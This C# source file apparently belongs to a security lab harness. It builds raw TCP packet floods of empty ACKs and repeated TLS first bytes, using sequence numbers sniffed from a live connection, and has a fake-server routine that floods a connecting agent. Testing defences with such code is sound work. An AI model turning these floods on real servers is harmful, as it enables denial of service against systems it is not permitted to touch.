using System.Globalization;
using System.Net;
using System.Net.Sockets;
using Exeat.Linux;
using Exeat.Names;
using Exeat.Wire;

namespace Exeat.Lab.Attacks;

/// <summary>
/// Floods of packets on a connection whose hello never becomes whole: each has to be asked about, and none is worth it. The mark is <c>COUNT:RATE</c>, the name is a permitted one.
/// </summary>
/// <remarks>
/// The connection is an ordinary socket's, the flood beside it is made by hand with the numbers that the server's SYN-ACK gave. Were the SYN made by hand too, the agent's own kernel would
/// answer the SYN-ACK, of which it knows nothing, with a reset: the connection would be over, and conntrack would call the rest of the flood invalid.
/// </remarks>
internal static class PendingFlood
{
    /// <summary>Writes packet number <paramref name="number"/> of a flood over <paramref name="next"/>, which is what the client would send next: an empty acknowledgement.</summary>
    public delegate int Writer(in PacketDraft next, int number, Span<byte> packet);

    public static async Task<bool> RunAsync(AttackTarget target, Writer write)
    {
        int[] given = [.. target.Canary.Split(':').Select(text => int.Parse(text, CultureInfo.InvariantCulture))];
        var server = new IPEndPoint(await target.ResolveAsync(), target.Port);
        using PacketTap tap = PacketTap.Open();
        using Socket socket = await AttackTarget.ConnectAsync(server);
        ushort port = (ushort)((IPEndPoint)socket.LocalEndPoint!).Port;
        (Address from, Address to, uint sequence, uint acknowledgement) = Numbers(tap, port);
        await Floods.SendAsync(given[0], given[1], (number, packet) => write(
            new PacketDraft
            {
                Source = from,
                Destination = to,
                Protocol = IpProtocol.Tcp,
                SourcePort = port,
                DestinationPort = (ushort)target.Port,
                Sequence = sequence,
                Acknowledgement = acknowledgement,
                Flags = TcpFlags.Ack,
            },
            number, packet));
        return true;
    }

    /// <summary>
    /// The other side of it, run in the world for an address where nobody else answers: takes the first SYN to it, and floods the agent with answers. The mark is <c>COUNT:RATE</c>.
    /// </summary>
    public static async Task<bool> AnswerAsync(AttackTarget target)
    {
        int[] given = [.. target.Canary.Split(':').Select(text => int.Parse(text, CultureInfo.InvariantCulture))];
        Address here = Address.FromBytes(target.Address.GetAddressBytes());
        using PacketTap tap = PacketTap.Open();
        (Address agent, ushort port, uint next) = Syn(tap, here, (ushort)target.Port);
        await Floods.SendAsync(given[0], given[1], (number, packet) => PacketWriter.Write(
            new PacketDraft
            {
                Source = here,
                Destination = agent,
                Protocol = IpProtocol.Tcp,
                SourcePort = (ushort)target.Port,
                DestinationPort = port,
                Sequence = number == 0 ? 1000u : 1001u,
                Acknowledgement = next,
                Flags = number == 0 ? TcpFlags.Syn | TcpFlags.Ack : TcpFlags.Ack,
            },
            packet));
        return true;
    }

    /// <summary>Empty acknowledgements, all the same.</summary>
    public static int Acknowledgement(in PacketDraft next, int number, Span<byte> packet) => PacketWriter.Write(next, packet);

    /// <summary>The first byte of a TLS record, and then again and again as a retransmission of it.</summary>
    public static int FirstByte(in PacketDraft next, int number, Span<byte> packet) => PacketWriter.Write(
        new PacketDraft
        {
            Source = next.Source,
            Destination = next.Destination,
            Protocol = next.Protocol,
            SourcePort = next.SourcePort,
            DestinationPort = next.DestinationPort,
            Sequence = next.Sequence,
            Acknowledgement = next.Acknowledgement,
            Flags = TcpFlags.Ack | TcpFlags.Psh,
            Payload = [0x16],
        },
        packet);

    /// <summary>Both in turn.</summary>
    public static int Mixed(in PacketDraft next, int number, Span<byte> packet) => number % 2 == 0 ? Acknowledgement(next, number, packet) : FirstByte(next, number, packet);

    // What the client's next byte is, and the server's, as the SYN-ACK towards this port says.
    private static (Address From, Address To, uint Sequence, uint Acknowledgement) Numbers(PacketTap tap, ushort port)
    {
        long start = TimeProvider.System.GetTimestamp();
        while (TimeProvider.System.GetElapsedTime(start) < AttackTarget.Patience)
        {
            int count = tap.Receive(100);
            for (int i = 0; i < count; i++)
            {
                if (PacketView.TryRead(tap[i].Bytes, out PacketView seen) && seen.IsTcp && seen.DestinationPort == port && (seen.Flags & (TcpFlags.Syn | TcpFlags.Ack)) == (TcpFlags.Syn | TcpFlags.Ack))
                    return (seen.Destination, seen.Source, seen.Acknowledgement, seen.Sequence + 1);
            }
        }
        throw new IOException("no SYN-ACK was seen");
    }

    // Who knocks, and what their next byte is.
    private static (Address From, ushort Port, uint Next) Syn(PacketTap tap, Address to, ushort port)
    {
        long start = TimeProvider.System.GetTimestamp();
        while (TimeProvider.System.GetElapsedTime(start) < AttackTarget.Patience * 3)
        {
            int count = tap.Receive(100);
            for (int i = 0; i < count; i++)
            {
                if (PacketView.TryRead(tap[i].Bytes, out PacketView seen) && seen.IsTcp && seen.Destination == to && seen.DestinationPort == port && seen.Flags == TcpFlags.Syn)
                    return (seen.Source, seen.SourcePort, seen.Sequence + 1);
            }
        }
        throw new IOException("nobody came");
    }
}
